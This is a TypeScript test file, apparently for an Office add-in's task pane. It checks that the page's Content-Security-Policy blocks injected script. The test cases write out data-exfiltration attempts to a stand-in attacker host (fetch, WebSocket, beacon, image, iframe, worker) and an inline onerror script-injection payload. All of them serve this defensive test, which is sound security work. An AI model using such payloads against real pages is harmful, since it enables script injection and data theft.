/** What the pane's own page lets happen, whatever script were to get into it. */
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { headersFor, POLICY } from '../../scripts/hosting.mjs';
import { describeInChromium, launch } from '../chromium';

const template = readFileSync(path.join(__dirname, '../../src/taskpane/taskpane.html'), 'utf8');
const CDN = 'https://appsforoffice.microsoft.com';

test('the policy is the strict one', () => {
  const policy = /http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(template)?.[1];
  expect(policy?.split('; ')).toEqual([
    "default-src 'none'",
    `script-src 'self' ${CDN}`,
    "style-src 'self' 'unsafe-inline'",
    "connect-src 'self'",
    "worker-src 'self' blob:",
    "img-src 'self' blob: data:",
    "base-uri 'none'",
    "form-action 'none'",
  ]);
  // A server sends it with every file: the page's own word does not bind its worker.
  expect(headersFor('chunk-1-abcd.js')['Content-Security-Policy']).toBe(POLICY);
  expect(policy).toBe(POLICY);
});

/** Asks elsewhere, and says what became of it. */
const WORKER = `fetch('https://jahat.example/kirim').then(() => 'sent', () => 'refused').then((told) => postMessage(told));`;

describeInChromium("what the pane's policy keeps out", () => {
  let server: Server;
  let browser: Browser;
  let page: Page;
  let address = '';
  const asked: string[] = [];

  beforeAll(async () => {
    server = createServer((request, response) => {
      const script = /\/([\w-]+\.js)$/.exec(request.url!)?.[1];
      response.writeHead(200, headersFor(script ?? 'taskpane.html'));
      if (script === 'chunk-worker.js') response.end(WORKER);
      else response.end(script ? 'globalThis.ran = [...(globalThis.ran ?? []), "own"];' : template);
    });
    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
    address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    browser = await launch();
    page = await browser.newPage();
    await page.route(
      (url) => url.origin !== address,
      (route) => {
        asked.push(route.request().url());
        return route.fulfill({ body: '' });
      },
    );
    await page.goto(address);
  });
  afterAll(async () => {
    await browser?.close();
    server?.close();
  });

  /** @param attempt a piece of script, run in the page as the browser's own tools run it. @returns what the policy says of it. */
  const broken = (attempt: string): Promise<string> =>
    page.evaluate(
      (code) =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective), {
            once: true,
          });
          setTimeout(() => resolve('nothing'), 3000);
          // The policy refuses the page's own eval; the tools of a test are let through.
          void (0, eval)(`(async () => { ${code} })()`)?.catch?.(() => undefined);
        }),
      attempt,
    );

  const add = (tag: string, properties: string) =>
    `document.body.append(Object.assign(document.createElement('${tag}'), ${properties}))`;

  test.each<[string, string, string]>([
    ['a request elsewhere', "fetch('https://jahat.example/kirim', { method: 'POST', body: 'nilai' })", 'connect-src'],
    ['a socket', "new WebSocket('wss://jahat.example')", 'connect-src'],
    ['a beacon', "navigator.sendBeacon('https://jahat.example', 'nilai')", 'connect-src'],
    ['a picture that carries something away', add('img', "{ src: 'https://jahat.example/a.png?nilai=1' }"), 'img-src'],
    ['a script of others', add('script', "{ src: 'https://jahat.example/a.js' }"), 'script-src-elem'],
    ['a script in the page', add('script', "{ textContent: 'globalThis.bad = 1' }"), 'script-src-elem'],
    ['a script in an attribute', 'document.body.innerHTML = \'<img src=x onerror="globalThis.bad = 1">\'', 'script-src-attr'],
    ['a frame', add('iframe', "{ src: 'https://jahat.example' }"), 'frame-src'],
    [
      'another base of addresses',
      "document.head.append(Object.assign(document.createElement('base'), { href: 'https://jahat.example' }))",
      'base-uri',
    ],
    [
      'a style sheet of others',
      "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://jahat.example/a.css' }))",
      'style-src-elem',
    ],
  ])('%s', async (_, attempt, directive) => {
    expect(await broken(attempt)).toBe(directive);
    expect(asked.filter((url) => !url.startsWith(CDN))).toEqual([]);
    expect(await page.evaluate(() => 'bad' in globalThis)).toBe(false);
  });

  test('a request of its worker', async () => {
    const told = await page.evaluate(
      () =>
        new Promise((resolve) => {
          new Worker('/chunk-worker.js').addEventListener('message', ({ data }) => resolve(data));
        }),
    );
    expect(told).toBe('refused');
    expect(asked.filter((url) => !url.startsWith(CDN))).toEqual([]);
  });

  test('and what it lets in: our own scripts', async () => {
    await page.addScriptTag({ url: `${address}/own.js` });
    expect(await page.evaluate(() => (globalThis as unknown as { ran: string[] }).ran)).toEqual(['own']);
    expect(asked.every((url) => url.startsWith(CDN))).toBe(true);
  });
});
